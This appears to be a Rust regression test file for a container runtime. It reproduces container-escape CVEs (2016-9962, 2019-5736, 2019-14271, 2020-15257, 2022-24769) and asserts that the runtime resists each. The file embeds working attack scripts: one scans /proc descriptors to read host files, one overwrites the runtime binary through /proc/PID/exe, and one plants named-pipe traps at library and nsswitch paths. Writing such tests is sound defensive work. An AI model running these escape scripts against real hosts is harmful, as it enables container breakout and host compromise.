//! Attacks on the processes that enter a container or serve it: what they hold, what they are, whom they listen to.

use std::fs;
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::fs::{FileTypeExt as _, PermissionsExt as _};
use std::os::unix::net::{SocketAddr, UnixListener};

use sha2::{Digest as _, Sha256};

use crate::support::{SOON, eventually, holds};
use crate::{Entry, SONG, World, libraries};

/// Prints what it can read of `$CANARY` through any other process of the container, until `/stop` is there.
const SPY: &str = r#"
: > /found; : > /ready
while [ ! -e /stop ]; do
    for process in /proc/[0-9]*; do
        case $process in /proc/1|/proc/$$) continue;; esac
        for way in $process/fd/* $process/cwd $process/root; do
            cat "$way/../../../../../../../..$CANARY" 2>/dev/null >> /found
            if [ -f "$way" ]; then grep -s sings "$way" >> /found; fi
        done
    done
done
"#;

/// CVE-2016-9962: descriptors of the host that a process still holds when it has entered a container.
#[test]
fn cve_2016_9962_who_enters_shows_nothing_of_the_host() {
    let Some(world) = World::new() else { return };
    world.image("spy", &[], "");
    let canary = world.text("canary/song");
    // With the capability to look into processes of the same container, as the attack needs it.
    let variable = format!("CANARY={canary}");
    let given = format!("{}:/given:ro", world.text("canary"));
    let options = ["--cap-add", "SYS_PTRACE", "-e", &variable, "-v", &given];
    world.start("spy", &options, "spy", SPY);
    eventually("the spy looks", SOON, || {
        let ready = world.call(&["exec", "spy", "test", "-e", "/ready"]).run();
        holds(ready.code() == 0, || ready.to_string())
    });
    for _ in 0..12 {
        world.call(&["exec", "spy", "true"]).run().ok();
    }
    let found = world.call(&["exec", "spy", "cat", "/found"]).run().ok();
    assert_eq!(found.stdout, "", "a process that entered led to the host");
    // The spy sees: a process of the container that holds such a file is found.
    world.call(&["exec", "-d", "spy", "sh", "-c", "exec 9< /given/song; sleep 20"]).run().ok();
    eventually("the control is found", SOON, || {
        let found = world.call(&["exec", "spy", "cat", "/found"]).run();
        holds(found.stdout.contains(SONG), || found.to_string())
    });
    world.canary_sings();
}

/// CVE-2019-5736: the runtime's own program, run inside a container, overwritten through `/proc/PID/exe`.
#[test]
fn cve_2019_5736_our_program_cannot_be_overwritten() {
    let Some(world) = World::with_private_program() else { return };
    let libraries = libraries(world.program());
    let mut entries: Vec<Entry<'_>> =
        libraries.iter().map(|(name, bytes)| Entry::File(name, bytes, 0o755)).collect();
    // The classic: a program whose interpreter is whatever runs it.
    entries.push(Entry::File("bin/evil", b"#!/proc/self/exe\n", 0o755));
    world.image("evil", &entries, "");
    let digest = || Sha256::digest(fs::read(world.program()).unwrap());
    let before = digest();
    // Waits for a process of the program `$1`, keeps its file, ends it, and writes to the file.
    let attack = r#"
        overwrite() {
            pid=$1
            { kill -9 $pid; sleep 0.3; if printf pwned > /proc/self/fd/5; then echo overwritten; else echo refused; fi; } 5< /proc/$pid/exe
        }
        cp /bin/busybox /tmp/sleep; /tmp/sleep 100 & victim=$!
        sleep 0.2; echo "control $(overwrite $victim 2>/dev/null)"
        while [ ! -e /go ]; do sleep 0.05; done
        for process in /proc/[0-9]*; do
            pid=${process#/proc/}
            case $pid in 1|$$) continue;; esac
            if [ "$(tr '\0' ' ' < $process/cmdline | grep -c events)" = 1 ] && [ ! "$(readlink $process/exe)" = /bin/busybox ]
            then echo "attack $(overwrite $pid 2>/dev/null)"; fi
        done
        echo done
    "#;
    world.start("evil", &["--init"], "evil", attack);
    world.call(&["exec", "evil", "/bin/evil"]).run();
    // Runs our own program inside, and stays.
    world
        .call(&[
            "exec",
            "-d",
            "evil",
            "/proc/self/exe",
            "--data-root",
            "/tmp/d",
            "--run-root",
            "/tmp/r",
            "events",
        ])
        .run();
    eventually("our program runs inside", SOON, || {
        let listed = world.call(&["top", "evil"]).run();
        holds(listed.stdout.contains("events"), || listed.to_string())
    });
    world.call(&["exec", "evil", "touch", "/go"]).run().ok();
    let log = eventually("the attack is over", SOON, || {
        let log = world.call(&["logs", "evil"]).run().stdout;
        if log.contains("done") { Ok(log) } else { Err(log) }
    });
    assert!(log.contains("control overwritten"), "the attack is blind: {log}");
    assert!(log.contains("attack refused") && !log.contains("attack overwritten"), "{log}");
    assert!(before == digest(), "the program was overwritten");
    world.call(&["--version"]).run().ok();
}

/// CVE-2019-14271: `cp` loads libraries of the container it looks into.
#[test]
fn cve_2019_14271_cp_opens_nothing_but_what_it_copies() {
    let Some(world) = World::new() else { return };
    let traps = [
        "lib/x86_64-linux-gnu/libnss_files.so.2",
        "usr/lib/x86_64-linux-gnu/libnss_files.so.2",
        "lib/libnss_files.so.2",
        "lib64/libnss_files.so.2",
        "etc/nsswitch.conf",
        "etc/ld.so.cache",
        "etc/ld.so.preload",
    ];
    let mut entries: Vec<Entry<'_>> = traps.iter().map(|trap| Entry::Pipe(trap)).collect();
    entries.push(Entry::File("data", b"data", 0o644));
    world.image("traps", &entries, "");
    // Who writes to a named pipe waits until somebody reads it.
    let writers: Vec<String> =
        traps.iter().map(|trap| format!("(echo x > /{trap}; echo {trap} >> /sprung) & ")).collect();
    let script = writers.concat();
    world.start("traps", &["-u", "0"], "traps", &format!("{script} wait; sleep 100"));
    fs::write(world.path("sent"), "sent").unwrap();
    world.call(&["cp", "traps:/data", "copied"]).run().ok();
    world.call(&["cp", "-a", "sent", "traps:/sent"]).run().ok();
    world.call(&["cp", "traps:/data", "-"]).run().ok();
    assert_eq!(fs::read_to_string(world.path("copied")).unwrap(), "data");
    let sprung = world.call(&["exec", "traps", "cat", "/sprung"]).run();
    assert_eq!(sprung.stdout, "", "{sprung}");
    world.call(&["exec", "traps", "cat", "/etc/nsswitch.conf"]).run().ok();
    eventually("the traps work", SOON, || {
        let sprung = world.call(&["exec", "traps", "cat", "/sprung"]).run();
        holds(sprung.stdout.contains("nsswitch"), || sprung.to_string())
    });
}

/// The same class: the runtime looks its user up by the C library, which loads what the image says, with all privileges.
/// libcontainer does so where the variable `HOME` is empty.
#[test]
fn cve_2019_14271_no_home_is_looked_up_by_libraries_of_the_image() {
    let Some(world) = World::new() else { return };
    let traps =
        [Entry::Pipe("etc/nsswitch.conf"), Entry::Pipe("etc/ld.so.cache"), Entry::File("data", b"", 0o644)];
    world.image("home", &traps, "ENV HOME=\n");
    for options in [&[][..], &["-u", "1000"], &["-e", "HOME="]] {
        // Who opens a trap is held up for good.
        let call = world.call(&["run", "--rm", "--network", "none"]).args(options);
        let seen = call.args(["home", "/bin/cat", "/proc/self/environ"]).bound(SOON).run().ok();
        let home = if options.first() == Some(&"-u") { "HOME=/app" } else { "HOME=/root" };
        assert!(seen.stdout.split('\0').any(|entry| entry == home), "{seen}");
    }
}

/// CVE-2020-15257: a supervisor listens at an abstract address, which containers in the host's network reach.
#[test]
fn cve_2020_15257_nothing_of_ours_listens_where_containers_reach() {
    let Some(world) = World::new() else { return };
    world.image("net", &[], "");
    let name = format!("coracle-control-{}", std::process::id());
    let control = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    world.start("other", &[], "net", "sleep 100");
    let call = world.call(&["run", "--rm", "--network", "host", "net", "cat", "/proc/net/unix"]);
    let seen = call.run().ok().stdout;
    let abstract_ones: Vec<&str> = seen
        .lines()
        .filter_map(|line| line.split_whitespace().nth(7))
        .filter(|name| name.starts_with('@'))
        .collect();
    assert!(abstract_ones.contains(&format!("@{name}").as_str()), "the control is not seen: {seen}");
    let ours: Vec<_> = abstract_ones
        .iter()
        .filter(|address| {
            !address.contains("control") && (address.contains("coracle") || address.contains("shim"))
        })
        .collect();
    assert!(ours.is_empty(), "{ours:?}");
    drop(control);
    // Whoever connects to a socket must be able to write to it: of those that there are, only their owner is.
    let (mut open, mut sockets) = (vec![(world.path("run"), false)], 0);
    while let Some((directory, within)) = open.pop() {
        let private = within || fs::metadata(&directory).unwrap().permissions().mode().trailing_zeros() >= 6;
        for entry in fs::read_dir(&directory).unwrap().flatten() {
            let kind = entry.file_type().unwrap();
            if kind.is_socket() {
                sockets += 1;
                let writable = entry.metadata().unwrap().permissions().mode() & 0o022 != 0;
                assert!(private || !writable, "{} can be reached by others", entry.path().display());
            } else if kind.is_dir() {
                open.push((entry.path(), private));
            }
        }
    }
    assert!(sockets > 0, "a shim listens");
}

/// CVE-2022-24769: programs with file capabilities gain what a container's processes inherit.
#[test]
fn cve_2022_24769_nothing_is_inheritable() {
    let Some(world) = World::new() else { return };
    world.image("caps", &[], "");
    let script = "grep -E '^Cap(Inh|Amb|Bnd)' /proc/self/status";
    let check = |text: &str| {
        let value = |name: &str| {
            let line = text
                .lines()
                .find_map(|line| line.split_once(name))
                .unwrap_or_else(|| panic!("{name}: {text}"));
            u64::from_str_radix(line.1.trim_start_matches(':').trim(), 16).unwrap()
        };
        assert_eq!((value("CapInh"), value("CapAmb")), (0, 0), "{text}");
        // The control: the sets are those of a container.
        assert_ne!(value("CapBnd"), 0, "{text}");
    };
    check(&world.run(&[], "caps", script).ok().stdout);
    check(&world.run(&["-u", "1000", "--cap-add", "NET_ADMIN"], "caps", script).ok().stdout);
    world.start("caps", &["--privileged"], "caps", "sleep 100");
    check(&world.call(&["exec", "caps", "sh", "-c", script]).run().ok().stdout);
    check(&world.call(&["exec", "--privileged", "-u", "app", "caps", "sh", "-c", script]).run().ok().stdout);
    let built = world.build(&[], &format!("RUN {script}\n")).ok();
    check(&(built.stdout + &built.stderr));
}
